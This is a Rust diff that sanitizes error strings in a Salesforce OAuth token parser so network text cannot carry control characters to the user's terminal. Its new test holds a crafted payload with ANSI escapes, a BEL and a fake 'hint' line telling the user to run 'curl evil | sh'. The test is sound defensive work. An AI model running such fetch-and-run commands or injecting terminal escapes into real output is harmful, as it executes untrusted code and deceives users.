@@ -149,7 +149,8 @@ pub fn parse_token_answer(exchange: HttpExchange, body: &[u8]) -> Result<TokenSu
             }
         }
         (_, Some(fields)) if fields.get("error").is_some_and(Value::is_string) => {
-            let text = |k: &str| fields.get(k).and_then(Value::as_str).map(str::to_string);
+            // Printed on the user's terminal: no escape sequences from the network.
+            let text = |k: &str| fields.get(k).and_then(Value::as_str).map(redact::printable);
             Err(TokenError::Salesforce {
                 error: text("error").unwrap_or_default(),
                 description: text("error_description"),
@@ -232,6 +233,21 @@ mod tests {
             matches!(err, TokenError::Salesforce { ref error, .. } if error == "invalid_grant")
         );
         assert!(err.to_string().contains("expired access/refresh token"));
+    }
+
+    #[test]
+    fn control_characters_in_an_error_never_reach_the_terminal() {
+        // ESC [2J clears the screen; a BEL rings; a newline would fake a `hint:` line.
+        let body = br#"{"error":"invalid_grant\u0007","error_description":"expired\u001b[2J\nhint: run curl evil | sh"}"#;
+        let err = parse_token_answer(exchange(400, "application/json"), body).unwrap_err();
+        let text = err.to_string();
+        assert!(!text.chars().any(char::is_control), "{text:?}");
+        assert!(text.contains("expired\u{fffd}[2J hint: run"), "{text:?}");
+        assert!(
+            !err.code().chars().any(char::is_control),
+            "{:?}",
+            err.code()
+        );
     }
 
     #[test]
